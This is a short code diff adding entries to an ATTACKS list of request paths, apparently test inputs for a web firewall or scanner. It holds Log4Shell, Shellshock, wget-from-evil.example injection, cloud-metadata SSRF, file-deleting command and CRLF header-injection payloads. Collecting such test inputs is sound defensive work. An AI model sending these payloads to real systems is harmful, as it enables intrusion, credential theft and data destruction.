@@ -49,6 +49,10 @@ ATTACKS = {
         "/?x=${${lower:j}ndi:rmi://evil.example}",
         "/?x=()+{+:;};+/bin/bash+-c+id",
         "/?x=;wget+http://evil.example/x.sh",
+        "/?x=java.lang.ProcessBuilder",
+        "/?u=http://169.254.169.254/latest/meta-data/",
+        "/?x=for+/f+%25i+in+(a.txt)+do+del+%25i",
+        "/?x=a%0d%0aSet-Cookie:+a=b",
     ],
 }  # fmt: skip
 
